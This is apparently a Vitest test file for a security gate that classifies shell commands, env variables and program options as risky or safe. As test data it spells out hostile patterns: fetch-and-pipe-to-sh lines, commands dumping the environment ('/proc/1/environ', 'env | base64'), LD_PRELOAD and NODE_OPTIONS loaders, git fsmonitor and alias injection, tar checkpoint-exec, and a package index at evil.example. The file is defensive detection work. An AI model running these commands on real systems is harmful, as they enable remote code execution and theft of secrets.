import { describe, expect, it } from 'vitest';
import { awkRunsCommands, dumpsEnvironment, foreignScript, foreignScriptInLine, handedCommands, hookCommandRisk, isDangerousCommand, isNodeLoaderFlag, loadsCodeThroughEnv, readsCodeFromStdin, schedulesCommands, usesRelativePaths } from '../../../rules/utils/commands.js';

describe('commands', () => {
  it('calls an install of a repository or tarball a download, not an install of the declared dependencies in subfolders', () => {
    for (const command of ['npm install someone/tool', 'npm i git+https://g.example/t.git', 'npx github:someone/tool', 'pnpm add ./vendor/t.tgz']) expect(isDangerousCommand(command)).toBe(true);
    for (const command of ['cd client && npm install && cd ../server && npm install && cd ..', 'npm install && node scripts/a/b.js', 'npm install @scope/pkg', 'npm install ../local-lib']) expect(isDangerousCommand(command)).toBe(false);
  });

  it('calls BSD fetch a download only as a program, not the word in git fetch', () => {
    for (const command of ['fetch -o - http://x.example/i | sh', 'cd /tmp && fetch http://x.example/a', 'sudo fetch http://x.example/a']) expect(isDangerousCommand(command)).toBe(true);
    for (const command of ['git fetch --all', 'git fetch origin main', 'npm run fetch-data', 'yarn prefetch']) expect(isDangerousCommand(command)).toBe(false);
  });

  it('finds interpreters that read their code from stdin, not those given a script or a question', () => {
    for (const [program, args] of [['sh', []], ['/bin/bash', ['-s']], ['node', ['-']], ['python3', ['-u']], ['pwsh', ['-NoProfile', '-Command', '-']]] as const) expect(readsCodeFromStdin(program, [...args])).toBe(true);
    for (const [program, args] of [['sh', ['build.sh']], ['node', ['--version']], ['python3', ['tool.py']], ['git', []]] as const) expect(readsCodeFromStdin(program, [...args])).toBe(false);
  });

  it('judges loader variables by what they load, and leaves plain settings alone', () => {
    expect(loadsCodeThroughEnv('NODE_OPTIONS', '--require /tmp/x.js')).toBe(true);
    expect(loadsCodeThroughEnv('NODE_OPTIONS', '--max-old-space-size=4096 --import=./hook.mjs')).toBe(true);
    expect(loadsCodeThroughEnv('NODE_OPTIONS', undefined)).toBe(true);
    expect(loadsCodeThroughEnv('NODE_OPTIONS', '--max-old-space-size=4096')).toBe(false);
    expect(loadsCodeThroughEnv('ld_preload', '/usr/lib/libx.so')).toBe(true);
    expect(loadsCodeThroughEnv('DYLD_INSERT_LIBRARIES', '')).toBe(false);
    expect(loadsCodeThroughEnv('GIT_SSH_COMMAND', "sh -c 'id' #")).toBe(true);
    expect(loadsCodeThroughEnv('GIT_SSH_COMMAND', 'ssh -o BatchMode=yes')).toBe(false);
    expect(loadsCodeThroughEnv('GIT_ASKPASS', undefined)).toBe(true);
    expect(loadsCodeThroughEnv('GIT_CONFIG_COUNT', '1')).toBe(true);
    expect(loadsCodeThroughEnv('PAGER', 'cat')).toBe(false);
    expect(loadsCodeThroughEnv('NODE_PATH', '/opt/lib')).toBe(false);
    expect(loadsCodeThroughEnv('NODE_PATH', undefined)).toBe(true);
    expect(loadsCodeThroughEnv('GIT_TERMINAL_PROMPT', undefined)).toBe(false);
  });

  it('finds Node flags that load code', () => {
    for (const flag of ['--import', '-r', '--require=./x.js', '--loader', '--experimental-loader=x', 'data:text/javascript,1', '-e']) expect(isNodeLoaderFlag(flag)).toBe(true);
    // Files Node reads options from: an env file or a config file can set NODE_OPTIONS, OpenSSL's config loads engines.
    for (const flag of ['--env-file=.env', '--env-file-if-exists', '--experimental-config-file=c.json', '--openssl-config=o.cnf', '--snapshot-blob']) expect(isNodeLoaderFlag(flag)).toBe(true);
    // Underscores in an option's name are dashes to Node; -pe prints what it evaluates; Node 24's default config file.
    for (const flag of ['--experimental_loader=data:x', '--env_file_if_exists=.env', '--im_port', '-pe', '--experimental-default-config-file']) expect(isNodeLoaderFlag(flag)).toBe(flag !== '--im_port');
    for (const flag of ['--max-old-space-size=512', '--max_old_space_size=512', '--title=env_file', '--no-warnings', '--enable-source-maps', './job.js', '--env', '--envfile', '--title=env-file']) expect(isNodeLoaderFlag(flag)).toBe(false);
  });

  it('finds the script a program in a language the gate does not read is handed, not a module run by name', () => {
    expect(foreignScript('python3', ['-u', 'tools/sync.py'])).toBe('tools/sync.py');
    expect(foreignScript('/usr/local/bin/Python3.12', ['helper.py', '--fast'])).toBe('helper.py');
    expect(foreignScript('PWSH.EXE', ['-File', 'a.ps1'])).toBe('a.ps1');
    // Through env, and in any command of a shell line.
    expect(foreignScript('/usr/bin/env', ['-i', 'PYTHONPATH=lib', 'python3', 'tools/sync.py'])).toBe('tools/sync.py');
    expect(foreignScriptInLine('cd "$DIR" && python3 ./sync.py --fast')).toBe('./sync.py');
    expect(foreignScriptInLine('git pull; ruby script/update.rb | tee log.txt')).toBe('script/update.rb');
    for (const line of ['python3 --version', 'python3 -m pip install -r requirements.txt', 'env NODE_ENV=production node build.js', 'git commit -m "fix sync.py"']) expect(foreignScriptInLine(line), line).toBeUndefined();
    expect(foreignScript('python3', ['-m', 'pip', 'install', 'x.whl'])).toBeUndefined();
    expect(foreignScript('perl', ['-v'])).toBeUndefined();
    // Node and shells are read by the gate itself (started files, the shell-script check).
    expect(foreignScript('node', ['x.py'])).toBeUndefined();
    expect(foreignScript('bash', ['x.py'])).toBeUndefined();
  });

  it('finds commands whose output is the whole environment or another process\'s', () => {
    expect(dumpsEnvironment('printenv', [])).toBe(true);
    expect(dumpsEnvironment('/usr/bin/env', ['-0'])).toBe(true);
    expect(dumpsEnvironment('cat /proc/1/environ', [])).toBe(true);
    expect(dumpsEnvironment('tr "\\0" "\\n" < /proc/$(ps -o ppid= -p $PPID)/environ', [])).toBe(true);
    expect(dumpsEnvironment('set', [])).toBe(true);
    expect(dumpsEnvironment('cd /x && env | base64', [])).toBe(true);
    expect(dumpsEnvironment('ps', ['eww'])).toBe(true);
    expect(dumpsEnvironment('printenv', ['HOME'])).toBe(false);
    expect(dumpsEnvironment('env', ['FORCE_COLOR=0', 'npm', 'ls'])).toBe(false);
    expect(dumpsEnvironment('npm config set color false', [])).toBe(false);
    expect(dumpsEnvironment('ps', ['-e', '-o', 'pid,comm'])).toBe(false);
  });

  it('finds package managers fetching a URL, git or tarball spec, not registry names', () => {
    for (const line of ['npm install http://192.0.2.10/h.tgz', 'npm i github:a/b', 'pnpm dlx a/b#main', 'npx -y git+https://x.example/r.git', 'yarn add ./x.tgz']) expect(isDangerousCommand(line)).toBe(true);
    for (const line of ['npm install', 'npm install left-pad@1.3.0', 'npm i @scope/pkg', 'npx prettier --check .', 'npm view notes-sync version']) expect(isDangerousCommand(line)).toBe(false);
  });

  it('knows the programs that name files relative to their working directory', () => {
    expect(usesRelativePaths('tar')).toBe(true);
    expect(usesRelativePaths('/usr/bin/rsync')).toBe(true);
    expect(usesRelativePaths('git')).toBe(false);
  });
  it('finds the command lines a program is told by its options to run', () => {
    expect(handedCommands('git', ['-c', 'core.fsmonitor=lib/f.sh', 'status'])).toEqual([{ option: 'core.fsmonitor', command: 'lib/f.sh' }]);
    expect(handedCommands('/usr/bin/git', ['-c', 'alias.x=!sh run.sh', '-c', 'alias.co=checkout', '-c', 'user.name=a', 'x'])).toEqual([{ option: 'alias.x', command: 'sh run.sh' }]);
    expect(handedCommands('git', ['-c', 'Core.HooksPath=hooks', 'commit'])).toEqual([{ option: 'Core.HooksPath', command: 'hooks' }]);
    expect(handedCommands('git', ['clone', '--upload-pack=./up', 'x'])).toEqual([{ option: '--upload-pack', command: './up' }]);
    expect(handedCommands('tar', ['-cf', 'x', '--checkpoint-action=exec=sh p.sh'])).toEqual([{ option: '--checkpoint-action', command: 'sh p.sh' }]);
    expect(handedCommands('gtar', ['-xf', 'x', '--to-command', 'cat', '-Izstd'])).toEqual([{ option: '--to-command', command: 'cat' }, { option: '-I', command: 'zstd' }]);
    expect(handedCommands('ssh', ['-oProxyCommand=nc %h 22', 'host'])).toEqual([{ option: 'ProxyCommand', command: 'nc %h 22' }]);
    expect(handedCommands('find', ['.', '-exec', 'sh', 'x.sh', '{}', ';', '-print'])).toEqual([{ option: '-exec', command: 'sh x.sh {}' }]);
    expect(handedCommands('tar', ['-czf', 'out.tgz', 'src'])).toEqual([]);
    expect(handedCommands('ls', ['-c', 'core.fsmonitor=x'])).toEqual([]);
  });

  it('judges a handed command line: files and scripts are unread code, installed tools are not', () => {
    expect(hookCommandRisk('/__plugin__/lib/fsmon.sh')).toMatch(/a file run as a program/);
    expect(hookCommandRisk('./pager')).toMatch(/a file run as a program/);
    expect(hookCommandRisk('sh /__plugin__/lib/p.sh')).toMatch(/a script handed to sh/);
    expect(hookCommandRisk('python3 -c "import os"')).toMatch(/inline/);
    expect(hookCommandRisk('curl -s x | sh')).toBe('dangerous');
    expect(hookCommandRisk(undefined)).toMatch(/run time/);
    expect(hookCommandRisk('less -R')).toBeUndefined();
    expect(hookCommandRisk('/usr/bin/difft')).toBeUndefined();
    expect(hookCommandRisk('ssh -i key -p 2222')).toBeUndefined();
  });

  it('knows programs that run their input later on a schedule', () => {
    expect(schedulesCommands('crontab', ['-'])).toBe(true);
    expect(schedulesCommands('/usr/bin/crontab', ['tab.txt'])).toBe(true);
    expect(schedulesCommands('at', ['now + 1 minute'])).toBe(true);
    expect(schedulesCommands('schtasks.exe', ['/Create', '/TN', 'x'])).toBe(true);
    expect(schedulesCommands('crontab', ['-l'])).toBe(false);
    expect(schedulesCommands('at', ['-l'])).toBe(false);
    expect(schedulesCommands('cat', ['-'])).toBe(false);
  });

  it('reads awk: a -f script is a file of code, inline text that calls system() or a pipe runs commands', () => {
    expect(foreignScript('awk', ['-f', 'lib/w.awk', 'data.txt'])).toBe('lib/w.awk');
    expect(foreignScript('gawk', ['--file=w.awk'])).toBe('w.awk');
    expect(foreignScript('awk', ['{print $1}', 'notes.txt'])).toBeUndefined();
    expect(awkRunsCommands('awk', ['BEGIN{system("id")}'])).toBe(true);
    expect(awkRunsCommands('mawk', ['-v', 'x=1', 'BEGIN { "date" | getline d }'])).toBe(true);
    expect(awkRunsCommands('awk', ['{ print $1 | "sh" }'])).toBe(true);
    expect(awkRunsCommands('awk', ['-F', ',', '{print $1, $2}'])).toBe(false);
    expect(awkRunsCommands('awk', ['{ n += $1 } END { print n }'])).toBe(false);
  });

  it('sees another interpreter handed code that prints the whole environment', () => {
    expect(dumpsEnvironment('python3', ['-c', 'import os,json;print(json.dumps(dict(os.environ)))'])).toBe(true);
    expect(dumpsEnvironment('perl', ['-e', 'print %ENV'])).toBe(true);
    expect(dumpsEnvironment('ruby', ['-e', 'p ENV.to_h'])).toBe(true);
    expect(dumpsEnvironment('node', ['-e', 'console.log(JSON.stringify(process.env))'])).toBe(true);
    expect(dumpsEnvironment("python3 -c 'import os; print(os.environ)'", [])).toBe(true);
    expect(dumpsEnvironment('python3', ['-c', 'import os; print(os.environ["HOME"], os.environ.get("USER"))'])).toBe(false);
    expect(dumpsEnvironment('perl', ['-e', 'print $ENV{HOME}'])).toBe(false);
    expect(dumpsEnvironment('node', ['-e', 'console.log(process.env.HOME)'])).toBe(false);
    expect(dumpsEnvironment('python3', ['tool.py', 'os.environ'])).toBe(false);
  });

  it('treats registry and script-shell settings of package managers in env as code from elsewhere', () => {
    expect(loadsCodeThroughEnv('npm_config_registry', 'http://192.0.2.10/')).toBe(true);
    expect(loadsCodeThroughEnv('NPM_CONFIG_REGISTRY', undefined)).toBe(true);
    expect(loadsCodeThroughEnv('npm_config_@corp:registry', 'https://npm.corp.example/')).toBe(true);
    expect(loadsCodeThroughEnv('npm_config_script_shell', '/tmp/sh')).toBe(true);
    expect(loadsCodeThroughEnv('PIP_INDEX_URL', 'https://evil.example/simple')).toBe(true);
    expect(loadsCodeThroughEnv('npm_config_registry', 'https://registry.npmjs.org/')).toBe(false);
    expect(loadsCodeThroughEnv('npm_config_loglevel', 'silent')).toBe(false);
    expect(loadsCodeThroughEnv('GIT_EXTERNAL_DIFF', '/__plugin__/lib/difftool')).toBe(true);
    expect(loadsCodeThroughEnv('GIT_PAGER', 'cat')).toBe(false);
  });
});
